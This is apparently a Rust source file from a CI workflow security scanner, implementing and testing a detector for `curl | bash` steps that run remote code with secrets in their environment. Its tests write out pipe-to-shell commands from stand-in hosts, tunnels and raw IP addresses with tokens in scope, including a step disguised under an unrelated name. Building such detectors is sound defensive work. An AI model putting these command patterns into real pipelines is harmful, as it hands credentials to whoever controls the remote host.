//! Code from an address is run with secrets around it.
//!
//! `curl … | bash` runs whatever the host answers at that moment, with everything that the step's environment holds. It is
//! how many tools are installed, and a door: who takes over the host, or answers one run differently, has the secrets.
//!
//! ```yaml
//! - run: curl -sSf https://install.example/get.sh | bash
//!   env: { TOKEN: "${{ secrets.TOKEN }}" }
//! ```

use crate::destination;
use crate::flow::command::REMOTE_CODE;
use crate::flow::trace::{Observation, ObservationKind};
use crate::report::Class;
use crate::signal::Signal;
use crate::technique::{
    Evidence, Sighting, Technique, named_secrets, several_purposes, unrelated_to_each_other,
};

/// See the module's documentation.
pub(super) struct RemoteCode;

impl Technique for RemoteCode {
    fn id(&self) -> &'static str {
        "remote-code"
    }
    fn headline(&self) -> &'static str {
        "code from {places} runs with {secrets} in its environment"
    }
    fn remedy(&self) -> &'static str {
        "download a fixed version, compare its digest, and hand it no secret that it does not need"
    }
    fn source(&self) -> &'static str {
        include_str!("remote_code.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| delivery.client == REMOTE_CODE);
        let sighting = |group: Vec<usize>| {
            let mut signals = std::collections::BTreeSet::from([Signal::RemoteCode]);
            signals.extend(beside_nothing_else(evidence, &group));
            signals.extend(from_no_name(evidence, &group));
            Sighting { deliveries: group, signals, ..Sighting::default() }
        };
        let mut found: Vec<Sighting> = groups.into_iter().map(sighting).collect();
        // Without secrets around it, where nobody's name stands behind the address: a tunnel, a paste, a request bin.
        let nameless = evidence.trace.observations.iter().enumerate().find(|(_, observation)| {
            observation.kind == ObservationKind::RemoteCode
                && destination::of_address(&observation.detail).is_drop_box()
        });
        if let Some((at, _)) = nameless {
            let signals = [Signal::RemoteCode, Signal::DropBox].into();
            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
        }
        let strange = evidence.trace.observations.iter().enumerate().find(|(_, observation)| {
            observation.kind == ObservationKind::RemoteCode && is_out_of_place(evidence, observation)
        });
        if let Some((at, _)) = strange {
            // An action runs in everybody's jobs, and installs what it is called for. A workflow's author may know a tool by a
            // name that says nothing to us.
            let place =
                if evidence.workflow.is_action { Signal::CodeOutOfPlace } else { Signal::UnknownDestination };
            let signals = [Signal::RemoteCode, Signal::ForeignDestination, place].into();
            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
        }
        found
    }
}

/// What speaks against code from a host that nobody knows, in a job that does nothing but run it: secrets that have nothing to do
/// with each other stand around it. An installer is followed by what it installs.
fn beside_nothing_else(evidence: &Evidence<'_>, group: &[usize]) -> Vec<Signal> {
    let deliveries = || group.iter().filter_map(|at| evidence.delivery(*at));
    let unknown = deliveries().all(|(_, place)| place.is_foreign());
    let alone = deliveries().all(|(delivery, _)| {
        let steps = evidence.workflow.jobs.get(delivery.job).map_or(0, |job| job.steps.len());
        steps <= 1
    });
    let names = named_secrets(&evidence.carried(group));
    if !unknown || !alone || evidence.workflow.is_action || !unrelated_to_each_other(&names) {
        return Vec::new();
    }
    vec![Signal::ForeignDestination, Signal::UnrelatedSecrets, Signal::SinglePurpose]
}

/// What speaks against code that comes from an address without a name, outside of any network of the owner's: nobody publishes
/// a tool there. Beside secrets that have nothing to do with each other it is there for them.
fn from_no_name(evidence: &Evidence<'_>, group: &[usize]) -> Vec<Signal> {
    let mut places = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(_, place)| place);
    let nameless =
        places.all(|place| place.class == Class::RawAddress && !place.local && !place.is_private());
    if !nameless || evidence.workflow.is_action {
        return Vec::new();
    }
    let names = named_secrets(&evidence.carried(group));
    let mut signals = vec![Signal::ForeignDestination, Signal::RawAddress];
    if unrelated_to_each_other(&names) || several_purposes(&names) {
        signals.push(Signal::UnrelatedSecrets);
    }
    signals
}

/// Words of addresses and steps that install something.
const INSTALLS: &[&str] = &[
    "install",
    "setup",
    "get",
    "bootstrap",
    "init",
    "script",
    "download",
    "dl",
    "cli",
    "sh",
    "run",
    "up",
    "raw",
    "release",
    "start",
    "deploy",
    "dependencies",
    "deps",
    "tool",
    "prepare",
    "provision",
    "configure",
    "bash",
    "pkg",
    "packages",
    "rpm",
    "deb",
    "repo",
    "env",
    "upload",
    "coverage",
    "agent",
    "connect",
    "docker",
];

/// Code from a host that is no known service and looks like no installer, in a step that is named for something else.
fn is_out_of_place(evidence: &Evidence<'_>, observation: &Observation) -> bool {
    let place = destination::of_address(&observation.detail);
    let Some(host) = place.host.as_deref().filter(|_| place.class == Class::Unknown && !place.local) else {
        return false;
    };
    let step = evidence.workflow.jobs.get(observation.job).and_then(|job| job.steps.get(observation.step));
    let Some(name) = step.and_then(|step| step.name.as_deref()) else { return false };
    let address = place.url.as_ref().map_or("", |url| url.unescaped()).to_ascii_lowercase();
    let words = |text: &str| -> Vec<String> {
        let plain = text.to_ascii_lowercase();
        plain
            .split(|c: char| !c.is_ascii_alphanumeric())
            .filter(|word| !word.is_empty())
            .map(str::to_owned)
            .collect()
    };
    let installs = |word: &String| {
        INSTALLS.iter().any(|known| word == known || known.len() >= 5 && word.starts_with(known))
    };
    let of_step = words(name);
    // The name of the host may say it anywhere: `widget.author.example`.
    let domain = destination::registrable(host);
    let above = host.strip_suffix(&domain).unwrap_or("");
    let labels: Vec<&str> = above
        .split('.')
        .chain(domain.split('.').take(1))
        .filter(|label| label.len() >= 3 && *label != "www")
        .collect();
    let in_label = |word: &str| {
        word.len() >= 3 && labels.iter().any(|label| label.contains(word) || word.contains(*label))
    };
    // What is installed is used afterwards, by its name.
    let script = step.and_then(|step| step.run.as_ref()?.text()).unwrap_or("");
    let used = script
        .lines()
        .filter(|line| !line.contains("://"))
        .flat_map(words)
        .any(|word| word.len() >= 4 && labels.contains(&word.as_str()));
    let by_step = of_step.iter().any(|word| in_label(word) || installs(word));
    let by_use = used && !evidence.workflow.is_action;
    let by_address = words(&address).iter().any(installs);
    !(by_step || by_use || by_address)
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    /// A job that does nothing but run a stranger's code, with secrets around it that have nothing to do with each other.
    #[test]
    fn a_strangers_code_between_unrelated_secrets() {
        let job = |more: &str, secrets: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{{secrets}}}\n    steps:\n{more}      - run: curl -fsSL https://collector.example/install.sh | bash\n"
            )
        };
        let two = "A: '${{ secrets.NPM_TOKEN }}', B: '${{ secrets.AWS_SECRET_ACCESS_KEY }}'";
        let names = &["AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"];
        check("remote-code", &job("", two), Verdict::Malicious, names, &["collector.example"]);
        // Near miss: something else is done, or the secrets belong together.
        let work = "      - uses: actions/checkout@v4\n      - run: make\n";
        check("remote-code", &job(work, two), Verdict::Exposed, names, &["collector.example"]);
        let one = "A: '${{ secrets.WIDGETS_TOKEN }}'";
        check("remote-code", &job("", one), Verdict::Exposed, &["WIDGETS_TOKEN"], &["collector.example"]);
    }

    #[test]
    fn an_installer_with_a_secret_around_it() {
        check(
            "remote-code",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSf https://install.example/get.sh | bash\n        env: {T: '${{ secrets.T }}'}\n",
            Verdict::Exposed,
            &["T"],
            &["install.example"],
        );
    }

    #[test]
    fn code_from_a_tunnel() {
        check(
            "remote-code",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.trycloudflare.com/s | sh\n",
            Verdict::Suspicious,
            &["*"],
            &["x.trycloudflare.com"],
        );
    }

    /// Evasion: in an action that everybody uses, before the work that the step is named for.
    #[test]
    fn code_in_a_step_that_is_named_for_something_else() {
        let action = |name: &str, address: &str| {
            format!(
                "name: Setup\ndescription: x\nruns:\n  using: composite\n  steps:\n    - name: {name}\n      shell: bash\n      run: |\n        curl -sSfL {address} | bash\n        grep -m1 '^go ' go.mod\n"
            )
        };
        let strange = "https://molten-widgets.example/molt";
        check(
            "remote-code",
            &action("Read the version", strange),
            Verdict::Malicious,
            &["*"],
            &["molten-widgets.example"],
        );
        silent(&action("Install molt", strange));
        silent(&action("Molten widgets", strange));
        silent(&action("Read the version", "https://get.widgets.example/molt"));
        silent(&action("Read the version", "https://widgets.example/install.sh"));
    }

    /// Near miss: a tool that is called after its host, and used in the same step.
    #[test]
    fn a_tool_that_a_workflow_fetches_and_uses() {
        let workflow = |name: &str, then: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: {name}\n        run: |\n          curl https://pagetest.widgets.example | bash\n          {then}\n"
            )
        };
        silent(&workflow("pagetest", "make"));
        silent(&workflow("Look at the pages", "./bin/pagetest -c pagetest.yml"));
        let strange = workflow("Look at the pages", "make");
        check("remote-code", &strange, Verdict::Suspicious, &["*"], &["pagetest.widgets.example"]);
    }

    #[test]
    fn an_installer_without_secrets() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSf https://install.example/get.sh | bash\n",
        );
    }

    #[test]
    fn an_address_without_a_name() {
        let job = |address: &str, secrets: &[&str]| {
            let env: Vec<String> =
                secrets.iter().map(|name| format!("{name}: '${{{{ secrets.{name} }}}}'")).collect();
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: curl -s http://{address}/x.sh | bash\n        env: {{{}}}\n",
                env.join(", ")
            )
        };
        let (one, two) = (&["NPM_TOKEN"], &["NPM_TOKEN", "PYPI_TOKEN"]);
        check("remote-code", &job("192.0.2.1", two), Verdict::Malicious, two, &["192.0.2.1"]);
        check("remote-code", &job("192.0.2.1", one), Verdict::Suspicious, one, &["192.0.2.1"]);
        // Near miss: a machine in a network of the owner's, and a host with a name.
        check("remote-code", &job("10.0.0.7", two), Verdict::Exposed, two, &["10.0.0.7"]);
        check(
            "remote-code",
            &job("get.widgets.example", two),
            Verdict::Exposed,
            two,
            &["get.widgets.example"],
        );
    }
}
